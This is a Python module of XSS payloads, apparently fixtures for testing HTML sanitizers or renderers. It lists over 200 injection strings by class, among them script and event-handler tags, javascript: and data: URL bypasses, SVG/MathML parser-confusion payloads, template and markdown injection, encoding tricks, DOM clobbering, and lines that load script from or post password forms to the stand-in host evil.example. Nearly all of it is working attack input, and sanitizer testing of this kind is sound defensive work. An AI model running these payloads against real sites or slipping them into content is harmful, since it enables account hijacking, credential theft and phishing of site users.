"""Texts that run in a page which lets them, by the way in which they do. At least 200, and all different.

Where one runs it calls `xss`, which the pages under test have, or it asks the host FOREIGN for something.
"""

FOREIGN = "evil.example"
RUN = "xss(1)"

TAGS = f"""
<script>{RUN}</script>
<SCRIPT>{RUN}</SCRIPT>
<ScRiPt >{RUN}</sCrIpT >
<script/x>{RUN}</script>
<script\x0c>{RUN}</script>
<script src=//{FOREIGN}/a.js></script>
<script src="data:text/javascript,{RUN}"></script>
<script type=module>{RUN}</script>
<script>{RUN}//
<script>{RUN}</script
<<script>{RUN}//<</script>
<scr<script>ipt>{RUN}</scr</script>ipt>
</script><script>{RUN}</script>
</title><script>{RUN}</script>
</textarea><script>{RUN}</script>
</style><script>{RUN}</script>
</select><script>{RUN}</script>
</option></select><img src=x onerror={RUN}>
</noscript><script>{RUN}</script>
</iframe><script>{RUN}</script>
</xmp><script>{RUN}</script>
</template><script>{RUN}</script>
</h1></main></body></html><script>{RUN}</script>
<img src=x onerror={RUN}>
<img src=x onerror="{RUN}">
<img src=x onerror='{RUN}'>
<img src=x onerror=`{RUN}`>
<img src=x onerror={RUN} //
<img/src=x/onerror={RUN}>
<img\x0bsrc=x onerror={RUN}>
<img src=x:x onerror={RUN}>
<img src onerror={RUN}>
<img src=x onerror=&#120;ss(1)>
<img src=x onerror=\\u0078ss(1)>
<image src=x onerror={RUN}>
<video src=x onerror={RUN}></video>
<video><source onerror={RUN}></video>
<audio src=x onerror={RUN}>
<body onload={RUN}>
<body onpageshow={RUN}>
<details open ontoggle={RUN}>x</details>
<input autofocus onfocus={RUN}>
<select autofocus onfocus={RUN}></select>
<textarea autofocus onfocus={RUN}></textarea>
<button autofocus onfocus={RUN}>x</button>
<a href=# autofocus onfocus={RUN} tabindex=1>x</a>
<p contenteditable autofocus onfocus={RUN}>x</p>
<marquee onstart={RUN}>x</marquee>
<xss id=x tabindex=1 onfocus={RUN}>x</xss>
<x onanimationstart={RUN} style=animation-name:x>x</x>
<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>
<link rel=stylesheet href=x onerror={RUN}>
<style onload={RUN}></style>
<script onerror={RUN} src=x></script>
<iframe onload={RUN}></iframe>
<object data=x onerror={RUN}></object>
<embed src=x onload={RUN}>
<frameset onload={RUN}><frame></frameset>
<isindex type=image src=x onerror={RUN}>
<keygen autofocus onfocus={RUN}>
<meter onmouseover={RUN}>0</meter>
<bgsound src="javascript:{RUN}">
<applet code="javascript:{RUN}"></applet>
<layer src="//{FOREIGN}/x"></layer>
"""

ATTRIBUTES = f"""
" onmouseover="{RUN}
" autofocus onfocus="{RUN}
" onerror="{RUN}" src="x
"><img src=x onerror={RUN}>
"><script>{RUN}</script>
" style="animation-name:x" onanimationstart="{RUN}
"/><svg/onload={RUN}>
"`'><script>{RUN}</script>
' onmouseover='{RUN}
' autofocus onfocus='{RUN}
'><img src=x onerror={RUN}>
'><script>{RUN}</script>
'/onerror='{RUN}'/src='x
` onmouseover=`{RUN}
`><img src=x onerror={RUN}>
x onmouseover={RUN}
x autofocus onfocus={RUN} tabindex=1
x/onfocus={RUN}/autofocus
x><img src=x onerror={RUN}>
&quot; onmouseover=&quot;{RUN}
&#34; autofocus onfocus=&#34;{RUN}
&#x27; autofocus onfocus=&#x27;{RUN}
%22%20autofocus%20onfocus=%22{RUN}
\\" autofocus onfocus="{RUN}
"\tautofocus\tonfocus="{RUN}
"\x0cautofocus\x0confocus="{RUN}
" href="javascript:{RUN}
" formaction="javascript:{RUN}
" srcdoc="<script>{RUN}</script>
" http-equiv="refresh" content="0;url=//{FOREIGN}/
" is="x" onload="{RUN}
" accesskey="x" onclick="{RUN}
"onfocus="{RUN}"autofocus="
"><base href="//{FOREIGN}/
"><!--
"]]><img src=x onerror={RUN}>
"""

ADDRESSES = f"""
javascript:{RUN}
JavaScript:{RUN}
jAvAsCrIpT:{RUN}
 javascript:{RUN}
\x01javascript:{RUN}
\x1fjavascript:{RUN}
java\tscript:{RUN}
java\x0bscript:{RUN}
javascript\t:{RUN}
javascript&colon;{RUN}
javascript&#58;{RUN}
javascript&#x3A;{RUN}
javascript&#0000058{RUN}
&#106;avascript:{RUN}
&#x6A;avascript:{RUN}
&#0000106;avascript:{RUN}
jav&#x09;ascript:{RUN}
jav&#10;ascript:{RUN}
jav&NewLine;ascript:{RUN}
jav&Tab;ascript:{RUN}
&#1;javascript:{RUN}
&#x00;javascript:{RUN}
java%0ascript:{RUN}
%6Aavascript:{RUN}
javascript://%0a{RUN}
javascript://host/%0d%0a{RUN}
javascript:/*--></title></style></textarea></script><svg onload={RUN}>*/{RUN}
javascript:'<script>{RUN}</script>'
javascript:void({RUN})
javascript:top.{RUN}
javascript:%78ss(1)
javascript:\\u0078ss(1)
\u2028javascript:{RUN}
\u00a0javascript:{RUN}
\ufeffjavascript:{RUN}
\u200bjavascript:{RUN}
java\u00adscript:{RUN}
ｊavascript:{RUN}
javascript：{RUN}
vbscript:msgbox(1)
VBScript:{RUN}
livescript:{RUN}
mocha:{RUN}
data:text/html,<script>{RUN}</script>
data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=
DATA:text/html,<script>parent.{RUN}</script>
data:text/html;charset=utf-7,+ADw-script+AD4-xss(1)+ADw-/script+AD4-
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>
data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0ieHNzKDEpIi8+
data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>
data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>
data:,{RUN}
data:text/javascript,{RUN}
blob:http://{FOREIGN}/1
filesystem:http://{FOREIGN}/temporary/x.html
view-source:javascript:{RUN}
feed:javascript:{RUN}
jar:http://{FOREIGN}/x.jar!/x.html
//{FOREIGN}/
///{FOREIGN}/
\\\\{FOREIGN}/
/\\{FOREIGN}/
/\t/{FOREIGN}/
/%09/{FOREIGN}/
/.//{FOREIGN}/
https:{FOREIGN}
http:\\\\{FOREIGN}
//{FOREIGN}%2f..
/%2e%2e//{FOREIGN}
//{FOREIGN}@127.0.0.1/
http://127.0.0.1@{FOREIGN}/
"""

FOREIGN_ELEMENTS = f"""
<svg onload={RUN}>
<svg/onload={RUN}>
<svg><script>{RUN}</script></svg>
<svg><script href="data:text/javascript,{RUN}"/></svg>
<svg><script xlink:href="//{FOREIGN}/x.js"/></svg>
<svg><script>&#120;ss(1)</script></svg>
<svg><style><img src=x onerror={RUN}></style></svg>
<svg></p><style><a id="</style><img src=x onerror={RUN}>">
<svg><desc><img src=x onerror={RUN}></desc></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.{RUN}</script>"></foreignObject></svg>
<svg><title><script>{RUN}</script></title></svg>
<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:{RUN}" /><text y=20>x</text></a></svg>
<svg><a><set attributeName=xlink:href to="javascript:{RUN}" /><text y=20>x</text></a></svg>
<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>
<svg><set onbegin={RUN} attributeName=x></svg>
<svg><animatetransform onbegin={RUN} attributeName=transform></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{RUN}'/></svg>#x"></svg>
<svg><image href=x onerror={RUN}></svg>
<svg><discard onbegin={RUN}></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{RUN}</handler></svg>
<svg><g/onload="{RUN}"></svg>
<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>
<math><mtext><script>{RUN}</script></mtext></math>
<math href="javascript:{RUN}">x</math>
<math><maction actiontype="statusline#http://{FOREIGN}" xlink:href="javascript:{RUN}">x</maction></math>
<math><mtext></p><style><img src=x onerror={RUN}></style></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror={RUN}">
<math><annotation-xml encoding="text/html"><script>{RUN}</script></annotation-xml></math>
<math><mi><style><!--</style></mi><img src=x onerror={RUN}>--></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>
<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>
<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>
<noembed><p title="</noembed><img src=x onerror={RUN}>"></noembed>
<noframes><p title="</noframes><img src=x onerror={RUN}>"></noframes>
<template><script>{RUN}</script></template>
<template shadowrootmode=open><script>{RUN}</script></template>
<listing>&lt;img src=x onerror={RUN}&gt;</listing>
<table><tr><td><style></td></tr></table><img src=x onerror={RUN}></style>
<select><style></select><img src=x onerror={RUN}></style>
<select><template><style></select><svg onload={RUN}></style>
<p><svg><p><style><!--</style><img src=x onerror={RUN}>-->
<svg><svg><b><noscript>&lt;/noscript>&lt;iframe onload={RUN}></noscript>
<a><b><a><b><img src=x onerror={RUN}></a></b>
<plaintext><script>{RUN}</script>
<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>
"""  # noqa: E501

TEMPLATES = f"""
${{{RUN}}}
${{7*7}}<img src=x onerror={RUN}>
`${{{RUN}}}`
{{{{{RUN}}}}}
{{{{constructor.constructor('{RUN}')()}}}}
{{% print({RUN}) %}}
#{{{RUN}}}
<%= {RUN} %>
<?python print(1) ?><script>{RUN}</script>
<tal:x content="structure context.title"/><script>{RUN}</script>
<p tal:attributes="onclick string:{RUN}" onclick="{RUN}">x</p>
<p metal:use-macro="layout" onmouseover="{RUN}">x</p>
${{structure: '<script>{RUN}</script>'}}
${{__import__('os')}}<svg onload={RUN}>
$${{{RUN}}}<script>{RUN}</script>
%(title)s<script>{RUN}</script>
{{0}}{{title}}<script>{RUN}</script>
"""

SCRIPT_DATA = f"""
</script><script>{RUN}</script>
</script ><svg onload={RUN}>
</SCRIPT><img src=x onerror={RUN}>
<!--<script>{RUN}</script>
<!--<script></script><script>{RUN}//-->
-->{RUN}
";{RUN};//
';{RUN};//
\\";{RUN};//
\\';{RUN};//
"-{RUN}-"
'-{RUN}-'
`-{RUN}-`
"}};{RUN};{{"
\u2028{RUN}
\u2029{RUN}//
*/{RUN}/*
]]>{RUN}
]]><script>{RUN}</script>
{{"__proto__": {{"onload": "{RUN}"}}}}
"""

MARKDOWN = f"""
[x](javascript:{RUN})
[x](JaVaScRiPt:{RUN})
[x](java&#x0A;script:{RUN})
[x](javascript&colon;{RUN})
[x](<javascript:{RUN}>)
[x](< javascript:{RUN}>)
[x](\\javascript:{RUN})
[x](data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=)
[x](vbscript:{RUN})
[x](//{FOREIGN} "x" onclick="{RUN})
[x](x "\\" onmouseover=\\"{RUN}")
[x](x 'title" onmouseover="{RUN}')
![x](x"onerror="{RUN})
![x" onerror="{RUN}](x)
![x](x "x\\" onerror=\\"{RUN}")
![x](javascript:{RUN})
![x](data:image/svg+xml,<svg/onload={RUN}>)
![x](<x> onerror={RUN})
<javascript:{RUN}>
<javascript&colon;{RUN}>
<https://x.example/"onmouseover="{RUN}>
<x@x.example"onmouseover="{RUN}>
[x]: javascript:{RUN} [x]
[x][r]\\n\\n[r]: javascript:{RUN}
```"><script>{RUN}</script>
```html onclick={RUN}
`<script>{RUN}</script>`
&lt;script&gt;{RUN}&lt;/script&gt;
<a href="javascript:{RUN}">x</a>
<a href='jav&#x09;ascript:{RUN}'>x</a>
<a href=javascript&colon;{RUN}>x</a>
<a href="&#1;javascript:{RUN}">x</a>
<a href="data:text/html,<script>{RUN}</script>">x</a>
<a href="x" onclick="{RUN}" ping="//{FOREIGN}/ping">x</a>
<a target=x href="javascript:{RUN}">x</a>
# x {{#x onclick={RUN}}}
{{: onclick={RUN} }}
x[^1<script>{RUN}</script>]
[^1]: <script>{RUN}</script>
!!! note "<script>{RUN}</script>"
|<script>{RUN}</script>|x|
> <img src=x onerror={RUN}>
[<img src=x onerror={RUN}>](x)
**<script>{RUN}</script>**
term <svg onload={RUN}>
\\<script>{RUN}</script>
"""

UNICODE = f"""
\u202e<script>{RUN}</script>
\u2066"><img src=x onerror={RUN}>\u2069
\ufeff<script>{RUN}</script>
\u00bcscript\u00be{RUN}\u00bc/script\u00be
\uff1cscript\uff1e{RUN}\uff1c/script\uff1e
\u2039script\u203a{RUN}\u2039/script\u203a
+ADw-script+AD4-xss(1)+ADw-/script+AD4-
%3Cscript%3E{RUN}%3C/script%3E
%253Cscript%253E{RUN}%253C/script%253E
%c0%bcscript%c0%be{RUN}%c0%bc/script%c0%be
\\u003cscript\\u003e{RUN}\\u003c/script\\u003e
\\x3cscript\\x3e{RUN}\\x3c/script\\x3e
&lt;script&gt;{RUN}&lt;/script&gt;
&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;
&#60;script&#62;{RUN}&#60;/script&#62;
&#x3c;img src=x onerror={RUN}&#x3e;
&LT;script&GT;{RUN}&LT;/script&GT;
&ltscript&gt{RUN}&lt/script&gt
\u1e9e\u0130\u0131<\u017fcript>{RUN}</\u017fcript>
<img src=x onerror\u00a0={RUN}>
\u2800<svg\u2028onload={RUN}>
"""

COMMENTS = f"""
--><script>{RUN}</script>
--!><script>{RUN}</script>
><script>{RUN}</script>
-><script>{RUN}</script>
<!--><script>{RUN}</script>-->
<!---><img src=x onerror={RUN}>-->
<!-- --!><img src=x onerror={RUN}>-->
<!--[if gte IE 4]><script>{RUN}</script><![endif]-->
<![CDATA[<script>{RUN}</script>]]>
<!x><img src=x onerror={RUN}>
<?x><img src=x onerror={RUN}>
</ x><img src=x onerror={RUN}>
<!DOCTYPE x [<!ENTITY x "<script>{RUN}</script>">]>&x;
<comment><img src="</comment><img src=x onerror={RUN}">
"""

STYLES = f"""
<p style="background:url(javascript:{RUN})">x</p>
<p style="background:url(//{FOREIGN}/bg.png)">x</p>
<p style="width:expression({RUN})">x</p>
<p style="-moz-binding:url(//{FOREIGN}/x.xml#x)">x</p>
<p style="behavior:url(//{FOREIGN}/x.htc)">x</p>
<style>@import "//{FOREIGN}/x.css";</style>
<style>*{{background:url(//{FOREIGN}/bg)}}</style>
<style>@font-face{{font-family:x;src:url(//{FOREIGN}/f)}}*{{font-family:x}}</style>
<link rel=stylesheet href="//{FOREIGN}/x.css">
<link rel=stylesheet href="data:text/css,*{{background:url(//{FOREIGN}/bg)}}">
<link rel=preload as=script href="//{FOREIGN}/x.js">
<link rel=prefetch href="//{FOREIGN}/x">
<link rel=dns-prefetch href="//{FOREIGN}">
<link rel=import href="//{FOREIGN}/x">
<link rel=manifest href="//{FOREIGN}/x">
<table background="//{FOREIGN}/bg"><td background="javascript:{RUN}">x</table>
<p class="dialog overlay" style="position:fixed;inset:0">x</p>
}}*{{background:url(//{FOREIGN}/bg)}}
red;background:url(//{FOREIGN}/bg)
expression({RUN})
"""

DOCUMENTS = f"""
<meta http-equiv=refresh content="0;url=//{FOREIGN}/">
<meta http-equiv=refresh content="0;url=javascript:{RUN}">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<meta http-equiv=set-cookie content="objpub_session=x">
<meta charset=utf-7>+ADw-script+AD4-xss(1)+ADw-/script+AD4-
<base href=//{FOREIGN}/>
<base href="javascript:/" target=_blank>
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.{RUN}&gt;"></iframe>
<iframe src="javascript:parent.{RUN}"></iframe>
<iframe src="//{FOREIGN}/"></iframe>
<iframe src="data:text/html,<script>parent.{RUN}</script>"></iframe>
<object data="javascript:{RUN}"></object>
<object data="//{FOREIGN}/x.swf"></object>
<object data="data:text/html,<script>parent.{RUN}</script>"></object>
<embed src="javascript:{RUN}">
<embed src="//{FOREIGN}/x.swf">
<form action="javascript:{RUN}"><button autofocus>x</button></form>
<form action="//{FOREIGN}/"><input name=password autofocus><button>x</button></form>
</form><form action="//{FOREIGN}/"><button>x</button></form>
<form id=form><button formaction="javascript:{RUN}">x</button></form>
<input type=image formaction="//{FOREIGN}/" src=x>
<button form=form formaction="//{FOREIGN}/">x</button>
<isindex action="javascript:{RUN}" type=submit>
<portal src="//{FOREIGN}/"></portal>
<fencedframe src="//{FOREIGN}/"></fencedframe>
<img src="//{FOREIGN}/track.gif">
<img srcset="//{FOREIGN}/track.gif 1x">
<picture><source srcset="//{FOREIGN}/track.gif"><img></picture>
<video poster="//{FOREIGN}/p.png" src="//{FOREIGN}/v.mp4" autoplay></video>
<audio src="//{FOREIGN}/a.mp3" autoplay></audio>
<video><track default src="//{FOREIGN}/t.vtt"></video>
<input type=image src="//{FOREIGN}/i.png">
"""

CLOBBERING = f"""
<p id=form>x</p><p id=words data-text="javascript:{RUN}">x</p>
<a id=form href="javascript:{RUN}">x</a>
<form id=form action="javascript:{RUN}"><input name=action></form>
<form name=body><img name=body id=body></form>
<img name=getElementById><img name=cookie>
<a id=location href="javascript:{RUN}">x</a><a id=location name=href href="javascript:{RUN}">x</a>
<p id=listing data-order=1 data-grip="<img src=x onerror={RUN}>">x</p>
<form id=upload action="//{FOREIGN}/"><input type=file autofocus></form>
<form id=find action="//{FOREIGN}/"><input name=find></form>
<form id=look action="//{FOREIGN}/"><input name=theme></form>
<ul id=tree data-root="/; domain={FOREIGN}"><li><p class=node><a class=twist href="//{FOREIGN}/">x</a></ul>
<p id=tree-oops><img src=x onerror={RUN}></p>
<p id=meanwhile data-url="//{FOREIGN}/">x</p>
<p id=unsaved data-text="<img src=x onerror={RUN}>">x</p>
<svg class=i><use href="//{FOREIGN}/x.svg#x"></use></svg>
<p id=xss>x</p>
<p data-widget=markdown data-preview="//{FOREIGN}/"><textarea>x</textarea></p>
<details class=menu name=m open ontoggle={RUN}><summary>x</summary></details>
<p id=field-title>x</p><p id=field-title-shown onfocus={RUN} tabindex=0 autofocus>x</p>
<p popover id=side onbeforetoggle={RUN}>x</p><button popovertarget=side autofocus>x</button>
"""

BY_CLASS = {
    "tags": TAGS,
    "attributes": ATTRIBUTES,
    "addresses": ADDRESSES,
    "svg, math and parsers that differ": FOREIGN_ELEMENTS,
    "templates": TEMPLATES,
    "data in scripts": SCRIPT_DATA,
    "markdown": MARKDOWN,
    "unicode": UNICODE,
    "comments": COMMENTS,
    "styles": STYLES,
    "documents": DOCUMENTS,
    "clobbering": CLOBBERING,
}


def numbered():
    """Return all payloads in their order, each of which calls xss with its own number, or asks for it."""
    found = dict.fromkeys(line for lines in BY_CLASS.values() for line in lines.split("\n") if line.strip())
    return [
        line.replace(RUN, f"xss({at})").replace(f"{FOREIGN}/", f"{FOREIGN}/{at}/")
        for at, line in enumerate(found)
    ]


PAYLOADS = numbered()
